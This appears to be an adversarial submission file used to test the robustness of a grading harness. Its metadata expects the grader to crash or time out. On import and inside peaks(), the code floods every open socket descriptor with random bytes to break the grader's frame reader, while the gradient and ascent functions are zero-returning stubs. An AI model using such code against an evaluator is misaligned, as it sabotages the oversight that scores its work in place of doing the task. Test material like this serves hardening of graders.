"""Random bytes on the socket bring the grader down."""

import os
import stat

EXERCISE = "02"
OUTCOMES = {"crashed", "timed_out"}
FLOOR = 0
CONTROL = "killed: the grader's reader of frames raises"
GRADER = "socket"


def everywhere(data):
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, data)
        except OSError:
            continue


everywhere(os.urandom(4096))


def peaks(x, y):
    everywhere(os.urandom(4096))
    return 0 * x


def peaks_gradient(x, y):
    return 0 * x, 0 * y


def sympy_gradient(expression):
    return expression, expression


def ascend_by_sign(gradient, start, learning_rate, epochs):
    return [[0.0, 0.0]] * (epochs + 1)


def ascend_by_negation(descend, gradient, start, learning_rate, epochs):
    return [[0.0, 0.0]] * (epochs + 1)
